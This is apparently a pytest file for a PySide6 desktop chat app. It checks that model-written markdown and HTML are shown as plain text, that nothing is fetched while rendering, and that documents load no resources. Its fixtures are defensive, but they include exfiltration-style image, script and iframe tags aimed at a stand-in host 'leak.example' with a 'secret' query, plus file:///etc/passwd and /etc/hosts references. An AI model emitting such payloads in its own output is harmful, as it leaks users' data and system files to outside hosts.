"""Reports of other windows that must not be true of ours: the page of a conversation."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QApplication

from ankita_desktop.events import MessageAdded, TextDelta
from ankita_desktop.protocol import Message
from ankita_desktop.ui.blocks_document import ClosedDocument
from ankita_desktop.ui.blocks_prose import Prose
from ankita_desktop.ui.chat import ChatView
from tests.ui.conftest import qt, quiet_qt, wait  # noqa: F401 - fixtures

LEAKS = """![a](https://leak.example/a.png?q=secret) ![b](file:///etc/passwd) ![c](//leak.example/c.png)
<img src="https://leak.example/d.png"> <script src="https://leak.example/e.js"></script>
<link rel="stylesheet" href="https://leak.example/f.css"> <iframe src="https://leak.example"></iframe>

[text](https://leak.example/g) ![d](data:image/png;base64,iVBORw0KGgo=)
"""


@pytest.fixture
def chat(qt: object) -> Iterator[ChatView]:  # noqa: F811
    view = ChatView()
    view.resize(760, 700)
    view.show()
    view.show_messages([Message("user", "Go on.")])
    yield view
    view.close()
    view.deleteLater()
    QApplication.processEvents()


def stream(view: ChatView, text: str, size: int = 40) -> None:
    for at in range(0, len(text), size):
        view.handle(TextDelta("s", text[at : at + size]))
        wait(lambda: not view.painting)


def test_shinychat_164_and_t3code_4074_finished_blocks_are_not_written_again(chat: ChatView) -> None:
    """posit-dev/shinychat#164, pingdotgg/t3code#4074: the whole message was parsed and laid out per token."""
    stream(chat, "A first paragraph.\n\nA second one.\n\n")
    first = chat.findChildren(Prose)[-1]
    settled = len("A first paragraph.")
    touched: list[int] = []
    first.document().contentsChange.connect(lambda at, _removed, _added: touched.append(at))
    stream(
        chat, "A third, still growing, word by word, for quite a while.\n\n- a list\n- of things\n\nThe end.\n\n"
    )
    assert touched and min(touched) >= settled
    assert chat.findChildren(Prose)[-1] is first


def test_cherry_studio_13893_html_of_the_model_is_shown_and_never_run(chat: ChatView) -> None:
    """CherryHQ/cherry-studio#13893: HTML written by the model was executed."""
    stream(chat, LEAKS)
    chat.handle(MessageAdded("s", Message("assistant", LEAKS)))
    text = chat.toPlainText()
    assert '<script src="https://leak.example/e.js"></script>' in text
    assert '<img src="https://leak.example/d.png">' in text


def test_alkemio_1954_nothing_is_fetched_while_rendering(chat: ChatView, monkeypatch: pytest.MonkeyPatch) -> None:
    """alkem-io/client-web#1954: the address of an image leaked data without a click."""
    reached: list[object] = []
    monkeypatch.setattr(socket.socket, "connect", lambda _self, address: reached.append(address))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: reached.append(a) or [])
    opened: list[str] = []
    chat.linkActivated.connect(opened.append)
    before = {entry.name for entry in Path("/proc/self/fd").iterdir()} if Path("/proc/self/fd").exists() else set()
    stream(chat, LEAKS)
    chat.handle(MessageAdded("s", Message("assistant", LEAKS)))
    wait(lambda: not chat.painting)
    chat.grab()
    after = {entry.name for entry in Path("/proc/self/fd").iterdir()} if Path("/proc/self/fd").exists() else set()
    sockets = [name for name in after - before if _is_socket(name)]
    assert (reached, opened, sockets) == ([], [], [])
    assert "image from leak.example – open?" in chat.toPlainText()


def _is_socket(descriptor: str) -> bool:
    path = Path("/proc/self/fd") / descriptor
    return path.is_symlink() and str(path.readlink()).startswith("socket:")


def test_a_document_hands_out_no_resource_of_any_kind(qt: object) -> None:  # noqa: F811
    """The last door: whatever a document asks for, it gets nothing."""
    document = ClosedDocument()
    document.setHtml('<img src="file:///etc/hostname"><link rel="stylesheet" href="file:///etc/hosts">')
    for kind in QTextDocument.ResourceType:
        assert document.resource(kind.value, QUrl("file:///etc/hostname")) is None
